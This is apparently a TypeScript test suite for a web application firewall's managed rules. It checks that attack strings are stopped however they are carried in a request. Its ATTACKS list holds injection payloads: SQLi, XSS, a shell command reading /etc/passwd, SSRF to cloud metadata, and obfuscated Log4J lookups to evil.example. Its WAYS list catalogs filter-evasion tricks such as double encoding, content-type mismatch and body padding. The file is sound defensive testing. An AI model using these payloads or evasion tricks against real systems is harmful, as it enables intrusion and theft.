import assert from "node:assert/strict";
import { test } from "node:test";
import { type RequestSketch, sketchRequest } from "../request.fixture.ts";
import { managedRuleGroups } from "./managed-rule-groups.ts";
import { findSignature } from "./signature.ts";
import { SIGNATURE_SET, SIGNATURES } from "./signatures.ts";

const RULES = managedRuleGroups().flatMap(({ rules }) => rules);

/** The rules that stop a request, apart from those about its headers. */
const stopping = (sketch: RequestSketch): readonly string[] => {
  const request = sketchRequest({ headers: [["user-agent", "Mozilla/5.0"]], ...sketch });
  return RULES.filter((rule) => rule.inspect(request)).map(({ name }) => name);
};

const post = (body: string, contentType?: string): RequestSketch => ({
  method: "POST",
  body,
  headers: [
    ["user-agent", "Mozilla/5.0"],
    ...(contentType === undefined ? [] : [["content-type", contentType] as const]),
  ],
});

const encode = (text: string): string => encodeURIComponent(text).replaceAll("'", "%27");

/** One attack of each class, and the rules' prefix that must stop it wherever it is. */
const ATTACKS: readonly (readonly [prefix: RegExp, text: string])[] = [
  [/^SQLi_/, "1' or 'a'='a"],
  [/^CrossSiteScripting_/, '"><img src=x onerror=alert(1)>'],
  [/^UNIXShellCommandsVariables_/, "a; c''at ${IFS}/etc/passwd"],
  [/^WindowsShellCommands_/, "x||n^slookup evil.example"],
  [/^GenericLFI_/, "../../../etc/passwd"],
  [/^GenericRFI_/, "http://203.0.113.7/shell.txt?"],
  [/^EC2MetaDataSSRF_/, "http://0xa9fea9fe/latest/meta-data/"],
  [/^Log4JRCE_/, "${${lower:j}ndi:ldap://evil.example/a}"],
  [/^Log4JRCE_/, "${${date:'j'}n${date:'d'}${DATE:'i'}:ldap://evil.example/a}"],
  [/^JavaDeserializationRCE_/, "${T(java.lang.Runtime).getRuntime().exec('id')}"],
  [/^PHPHighRiskMethodsVariables_/, "<?php system('id'); ?>"],
];

/** Ways to bring a text past a filter that reads only what a request says of itself. */
const WAYS: readonly (readonly [way: string, sketch: (text: string) => RequestSketch])[] = [
  ["an argument", (text) => ({ queryString: `a=${encode(text)}` })],
  ["an argument, encoded twice", (text) => ({ queryString: `a=${encode(encode(text))}` })],
  ["the last of many arguments", (text) => ({ queryString: `${"x=1&".repeat(900)}a=${encode(text)}` })],
  ["the name of an argument", (text) => ({ queryString: `${encode(text)}=1` })],
  ["JSON in an argument", (text) => ({ queryString: `a=${encode(JSON.stringify({ b: [text] }))}` })],
  ["a form", (text) => post(`x=1&a=${encode(text)}`, "application/x-www-form-urlencoded")],
  ["a form that says it is an image", (text) => post(`x=1&a=${encode(text)}`, "image/png")],
  ["JSON", (text) => post(JSON.stringify({ a: [{ b: text }] }), "application/json")],
  [
    "JSON that says it is a form",
    (text) => post(JSON.stringify([text]), "application/x-www-form-urlencoded"),
  ],
  ["JSON without a type", (text) => post(JSON.stringify({ a: text }))],
  ["JSON with escapes only", (text) => post(`{"a":"${escapeAll(text)}"}`, "application/json")],
  [
    "JSON within JSON",
    (text) => post(JSON.stringify({ a: JSON.stringify({ b: text }) }), "application/json"),
  ],
  ["multipart", (text) => post(part(text), "multipart/form-data; boundary=B")],
  ["multipart with another boundary", (text) => post(part(text), "multipart/form-data; boundary=C")],
  ["a body of text", (text) => post(text, "text/plain")],
  [
    "the end of the inspected body",
    (text) => post(JSON.stringify(["x".repeat(7000), text]), "application/json"),
  ],
];

const escapeAll = (text: string): string =>
  text.replace(/[\s\S]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`);

const part = (text: string): string =>
  `--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--B--\r\n`;

for (const [way, sketch] of WAYS) {
  test(`no attack gets through as ${way}`, () => {
    for (const [prefix, text] of ATTACKS) {
      const names = stopping(sketch(text));
      assert.ok(
        names.some((name) => prefix.test(name)),
        `${text}: ${names.join(", ")}`,
      );
    }
  });
}

test("padding hides an attack from every rule but the one about size, which stops it", () => {
  const padded = post(JSON.stringify(["x".repeat(20_000), "1' or 'a'='a"]), "application/json");
  assert.deepEqual(stopping(padded), ["SizeRestrictions_BODY"]);
  assert.ok(stopping({ ...padded, bodyBytesMax: 65_536 }).includes("SQLi_BODY"));
});

test("cookies are searched as headers are", () => {
  for (const text of [
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "1' or 'a'='a",
    "<?php system('id');",
  ]) {
    const headers = [
      ["user-agent", "Mozilla/5.0"],
      ["cookie", `a=1; b=${encode(text)}`],
    ] as const;
    assert.notDeepEqual(stopping({ headers }), [], text);
  }
});

test("headers that an application may put into a query are searched for SQL, structured ones are not", () => {
  const withHeader = (name: string, text: string) =>
    stopping({
      headers: [
        ["user-agent", "Mozilla/5.0"],
        [name, text],
      ],
    });
  assert.deepEqual(withHeader("x-forwarded-for", "1' or 'a'='a"), ["SQLiExtendedPatterns_HEADER"]);
  assert.deepEqual(withHeader("referer", "https://example.com/?q=1' or 1=1-- "), [
    "SQLiExtendedPatterns_HEADER",
  ]);
  assert.deepEqual(withHeader("sec-ch-ua", '"Not_A Brand";v="8", "Chromium";v="120"'), []);
  assert.deepEqual(withHeader("if-none-match", `W/"a'b"`), []);
});

/** Texts that each signature finds: its gate must let them through, or the pattern is never asked. */
test("the gate of every signature lets through what the signature finds", () => {
  for (const [, text] of ATTACKS) {
    for (const signature of Object.values(SIGNATURES)) {
      if (findSignature(signature, text) === undefined) continue;
      const bits = SIGNATURE_SET.scan(text);
      assert.notEqual(bits & SIGNATURE_SET.bitOf(signature), 0, `${signature.name}: ${text}`);
    }
  }
});
